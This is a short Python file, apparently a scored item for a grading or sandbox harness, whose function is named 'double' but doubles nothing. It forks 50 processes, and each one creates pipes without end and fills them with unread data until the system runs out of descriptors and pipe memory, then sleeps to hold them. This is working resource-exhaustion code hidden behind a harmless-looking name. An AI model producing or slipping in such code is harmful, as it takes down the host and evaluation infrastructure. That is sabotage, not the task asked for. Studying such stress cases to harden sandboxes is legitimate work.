# Full pipes that nobody reads, in as many processes as there may be.
# points: double=0 total=7 stack=6
# %% double
import os
import time


def double(x):
    for _ in range(50):
        if os.fork() == 0:
            ends = []
            while True:
                try:
                    ends.append(os.pipe())
                    os.set_blocking(ends[-1][1], False)
                    while True:
                        os.write(ends[-1][1], bytes(1 << 16))
                except BlockingIOError:
                    continue
                except OSError:
                    time.sleep(600)
    time.sleep(600)
